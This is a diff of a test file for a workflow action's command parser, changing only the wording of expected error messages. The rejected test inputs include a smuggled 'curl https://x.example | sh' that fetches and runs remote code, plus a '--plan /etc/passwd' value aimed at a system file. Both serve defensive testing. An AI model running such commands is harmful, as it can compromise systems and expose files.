@@ -142,7 +142,7 @@ describe('the input command', () => {
     });
     expect(parseCommandLine('publish', inputOf)).toMatchObject({ exclude: ['night', 'web'], decisions: [] });
     expect(() => parseCommandLine('plan --changed-since v2', inputOf)).toThrow(
-      'the input command says "v2", but the input changed-since of this workflow is "v1"; run it with the same',
+      'the input command says "v2", but the input changed-since of this workflow is "v1"; use the same value for both',
     );
     expect(() => parseCommandLine('record rename -e old new', inputOf)).toThrow('the input command says "new"');
   });
@@ -158,7 +158,7 @@ describe('the input command', () => {
     expect(() => parseCommandLine('apply --changed-since v1', planOf)).toThrow(
       '": the input plan cannot be combined with --changed-since;',
     );
-    expect(() => parseCommandLine("apply -e 'prod-*'", planOf)).toThrow('--plan accepts the name of one environment');
+    expect(() => parseCommandLine("apply -e 'prod-*'", planOf)).toThrow('--plan requires a single environment');
   });
 
   test('The input command ignores the environment variables of the process.', () => {
@@ -200,7 +200,7 @@ describe('the input command', () => {
 
   test.each([
     ['apply; curl https://x.example | sh', 'which is not supported here; expected plan, validate, apply'],
-    ['apply --plan /etc/passwd', '": --plan is valid only as an input of the workflow'],
+    ['apply --plan /etc/passwd', '": --plan is valid only as an action input'],
     [
       'apply --format json',
       '": in the action, apply has no option --format; the options are --environment, --selector, --exclude, --changed-since, --allow-older',
@@ -212,7 +212,7 @@ describe('the input command', () => {
     ['update web --to a --to b', '": --to was given more than once'],
     ['apply --allow-creates many', '": --allow-creates must be an integer of at least 0, not "many"'],
     ['update web --ours --theirs', '": --ours cannot be combined with --theirs; use one of them'],
-    ['plan -e staging,production', '--environment accepts the name of one environment'],
+    ['plan -e staging,production', '--environment requires a single environment'],
     ['hold front-desk', '": in the action, hold needs --reason'],
     ['record', 'which is not supported here'],
     ['record move --to file', 'which is not supported here'],
